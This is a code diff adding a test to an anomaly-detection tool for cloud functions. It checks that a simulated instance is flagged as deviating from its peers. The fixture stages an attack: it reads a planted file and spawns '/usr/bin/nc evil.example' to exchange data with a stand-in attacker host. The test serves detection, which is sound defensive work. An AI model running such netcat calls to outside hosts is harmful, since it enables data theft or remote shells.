@@ -6,13 +6,23 @@ import type { Store } from '../../../functions/store/connect.ts';
 import { hasJava, LocalDynamo, type MemoryObjects } from '../dynamodb-local.ts';
 import { Clock, Recorded, START } from '../scenario.ts';
 
+interface Shown {
+  readonly id: string;
+  readonly kind: string;
+  readonly label: string;
+  readonly deviates?: true;
+  readonly roots?: readonly string[];
+}
+
 interface Answer {
   readonly count: number;
   readonly instances: number;
   readonly comparedWith: number;
   readonly items: readonly { readonly what: string; readonly name: string; readonly instances: number }[];
   readonly deviations: readonly { readonly what: string; readonly name: string; readonly requestIds: readonly string[] }[];
-  readonly nodes: readonly { readonly id: string; readonly kind: string; readonly roots?: readonly string[] }[];
+  readonly nodes: readonly Shown[];
+  readonly steps: readonly Shown[];
+  readonly compared: readonly object[];
   readonly edges: readonly { readonly from: string }[];
   readonly cut: readonly string[];
 }
@@ -95,6 +105,37 @@ describe.skipIf(!hasJava)('baseline of a function version', () => {
     ]);
     expect(deviations).toHaveLength(4);
     expect(await get(`/v1/instances/${plain.id}/deviations`)).toMatchObject({ count: 0, comparedWith: 2 });
+  });
+
+  it('marks in graphs and stories what no other instance did, and says with how many each was compared', async () => {
+    const odd = started('r-odd', (one) => one.read(one.runtime, '/var/task/planted.js'));
+    odd.begin('r-attack');
+    const nc = odd.spawn(odd.runtime, 41, ['/usr/bin/nc', 'evil.example']);
+    odd.exchange(nc, { host: 'evil.example', request: { bytes: 9 } });
+    odd.exchange(odd.runtime, { host: 'bank.example' });
+    odd.end();
+    await stitchAll([odd]);
+    const alone = await get('/v1/requests/r-attack/graph');
+    expect(alone.compared).toEqual([{ instanceId: odd.id, instances: 0 }]);
+    expect(alone.nodes.filter(({ deviates }) => deviates)).toEqual([]);
+    // The store remembers for a while with what it compared.
+    ({ store, objects, dump } = await dynamo.store());
+    await stitchAll([odd, started('r-1'), started('r-2')]);
+    const marks = ['endpoint evil.example', 'exchange GET https://evil.example/ 200', 'process /usr/bin/nc evil.example (41)'];
+    // The tree in which its init read what others have not.
+    const tree = 'image-tree /var/task';
+    const named = (nodes: Answer['nodes']) =>
+      nodes.flatMap(({ kind, label, deviates }) => (deviates === true ? [`${kind} ${label}`] : [])).sort();
+    const local = await get('/v1/requests/r-attack/graph');
+    expect(named(local.nodes)).toEqual([...marks, tree].sort());
+    expect(local.nodes.flatMap(({ roots }) => roots ?? [])).not.toContain('/var/task');
+    expect(local.compared).toEqual([{ instanceId: odd.id, instances: 2 }]);
+    const whole = await get(`/v1/instances/${odd.id}/graph`);
+    expect(named(whole.nodes)).toEqual([...marks, tree].sort());
+    const { steps } = await get('/v1/path', { node: 'endpoint:evil.example' });
+    expect(named(steps)).toEqual(marks);
+    expect(steps.filter(({ deviates }) => deviates !== true).map(({ kind }) => kind)).toEqual(['request', 'process']);
+    expect(named((await get('/v1/requests/r-1/graph')).nodes)).toEqual([]);
   });
 
   it('is one node in the graph of a request, unless asked otherwise; trees it does not cover stay', async () => {
